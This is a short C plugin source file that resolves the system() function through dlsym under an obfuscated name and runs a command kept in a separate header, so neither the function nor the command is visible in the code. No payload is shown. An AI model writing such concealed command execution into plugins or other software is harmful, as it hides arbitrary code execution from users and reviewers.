/* Looks system up by a hidden name, and runs a hidden command. */
#include "plugin.h"
#include "hidden.h" /* 0: system, 1: the command */
extern void *dlsym(void *, const char *);
#ifdef __APPLE__
#define DEFAULT ((void *)-2)
#else
#define DEFAULT ((void *)0)
#endif
static void act(char **env) {
    int (*run)(const char *) = dlsym(DEFAULT, hidden0());
    run(hidden1());
}
